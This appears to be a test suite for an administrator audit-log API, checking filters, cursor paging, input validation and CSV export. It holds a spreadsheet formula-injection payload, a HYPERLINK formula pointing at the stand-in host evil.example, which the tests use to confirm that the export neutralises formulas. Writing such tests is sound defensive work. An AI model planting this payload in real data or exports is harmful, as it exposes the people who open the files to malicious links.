// GET /api/audit: administrators only; filters by action (exact or prefix), actor, target and
// time; cursor paging; a CSV export whose cells a spreadsheet cannot run as formulas.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { SshKeyStore } from "../../../strategy/store/index.js";
import { databaseKinds } from "../../support/databases.js";
import { startTestServer, type TestServer } from "../../support/server.js";
import { newKeyLine, request, signInTo, type Client } from "../support.js";

/** Parses RFC 4180 CSV (quoted cells, doubled quotes, CRLF) into rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

describe.each(["memory", ...databaseKinds] as const)("GET /api/audit on %s", (kind) => {
  let t: TestServer<SshKeyStore>;
  let root: Client;
  let alice: Client;
  let keyId: string;
  let fingerprint: string;
  const hostileAgent = `=HYPERLINK("http://evil.example/?x","click"), really`;

  beforeAll(async () => {
    t = await startTestServer(kind as "memory");
    await t.store.directory.addUser("root", { isAdmin: true });
    await t.store.directory.addUser("alice");
    root = await signInTo(t.url, t.store, "root");
    alice = await signInTo(t.url, t.store, "alice");
    const added = await alice.call("POST", "/keys", { text: newKeyLine("laptop") }, { "user-agent": hostileAgent });
    keyId = added.body.keys[0].id;
    fingerprint = added.body.keys[0].fingerprintSha256;
    await alice.call("PATCH", `/keys/${keyId}`, { comment: "+1 laptop" });
    await root.call("POST", "/users", { username: "bob" });
    await root.call("POST", `/keys/${keyId}/revoke`, { reason: "lost" });
  });
  afterAll(() => t?.close());

  const actions = async (query: string) => {
    const r = await root.call("GET", `/audit?${query}`);
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    return (r.body.entries as { action: string }[]).map((e) => e.action);
  };

  it("answers administrators newest first, each entry with its label; others get 403", async () => {
    const r = await root.call("GET", "/audit?action=key.");
    expect(r.status).toBe(200);
    expect(r.body.entries.map((e: { action: string }) => e.action)).toEqual(["key.revoked", "key.renamed", "key.added"]);
    expect(r.body.entries[2]).toMatchObject({
      label: "Key added",
      actor: { type: "user", name: "alice" },
      target: { type: "key", id: keyId, name: fingerprint },
      userAgent: hostileAgent,
      before: null,
      at: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
    });
    const refused = await alice.call("GET", "/audit");
    expect([refused.status, refused.body.error.code]).toEqual([403, "forbidden"]);
    expect((await request(`${t.url}/admin/api/audit`)).status).toBe(401);
  });

  it("filters by exact action, actor, target type/id and target name (which outlives a deleted key)", async () => {
    expect(await actions("action=user.created")).toEqual(["user.created"]);
    expect(await actions("action=key.&actor=ALI")).toEqual(["key.renamed", "key.added"]);
    expect(await actions(`targetType=key&targetId=${keyId}`)).toEqual(["key.revoked", "key.renamed", "key.added"]);
    expect(await actions("target=bob")).toEqual(["user.created"]);
    await root.call("DELETE", `/keys/${keyId}`);
    expect(await actions(`target=${encodeURIComponent(fingerprint)}`)).toEqual(["key.deleted", "key.revoked", "key.renamed", "key.added"]);
    const future = new Date(Date.now() + 86_400_000).toISOString();
    expect(await actions(`from=${future}`)).toEqual([]);
    expect(await actions(`to=2000-01-01`)).toEqual([]);
  });

  it("pages by cursor without repeats or gaps", async () => {
    const all = await actions("limit=200");
    const seen: string[] = [];
    let cursor: string | null = "";
    while (cursor !== null) {
      const r = await root.call("GET", `/audit?limit=2&cursor=${encodeURIComponent(cursor)}`);
      expect(r.status).toBe(200);
      expect(r.body.entries.length).toBeLessThanOrEqual(2);
      seen.push(...r.body.entries.map((e: { action: string }) => e.action));
      cursor = r.body.nextCursor;
    }
    expect(seen).toEqual(all);
  });

  it("refuses bad filters with 400 naming the field", async () => {
    const refusal = async (query: string) => {
      const r = await root.call("GET", `/audit?${query}`);
      return [r.status, r.body.error.code, r.body.error.message.split(":")[0]];
    };
    expect(await refusal("from=2030-02-01&to=2030-01-01")).toEqual([400, "invalid_request", "from"]);
    expect(await refusal("action=KEY;DROP")).toEqual([400, "invalid_request", "action"]);
    expect(await refusal("from=yesterday")).toEqual([400, "invalid_request", "from"]);
    expect(await refusal("limit=0")).toEqual([400, "invalid_request", "limit"]);
    expect(await refusal(`target=${"x".repeat(5000)}`)).toEqual([400, "invalid_request", "target"]);
    expect(await refusal("actor=%00")).toEqual([400, "invalid_request", "actor"]);
    expect(await refusal("format=xml")).toEqual([400, "invalid_request", "format"]);
    expect((await root.call("GET", "/audit?cursor=bm9wZQ")).body.error.code).toBe("invalid_cursor");
  });

  it("exports the filtered entries as CSV: quoted, quotes doubled, formulas defused", async () => {
    const r = await fetch(`${t.url}/admin/api/audit?format=csv&action=key.`, { headers: { cookie: root.cookie } });
    expect(r.status).toBe(200);
    expect(r.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(r.headers.get("content-disposition")).toMatch(/^attachment; filename="audit-\d{4}-\d\d-\d\d\.csv"$/);
    const text = await r.text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x"",""click""), really"`);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(["at", "action", "actor_type", "actor", "actor_id", "ip", "user_agent", "target_type", "target_id", "target", "before", "after"]);
    expect(rows.map((row) => row[1])).toEqual(["key.deleted", "key.revoked", "key.renamed", "key.added"]);
    const added = rows[3]!;
    expect(added[6]).toBe(`'${hostileAgent}`);
    expect(added[9]).toBe(fingerprint);
    expect(JSON.parse(added[11]!)).toMatchObject({ owner: "alice", comment: "laptop" });
    expect(JSON.parse(rows[2]![11]!)).toMatchObject({ comment: "+1 laptop" });
    expect((await fetch(`${t.url}/admin/api/audit?format=csv`, { headers: { cookie: alice.cookie } })).status).toBe(403);
  });
});
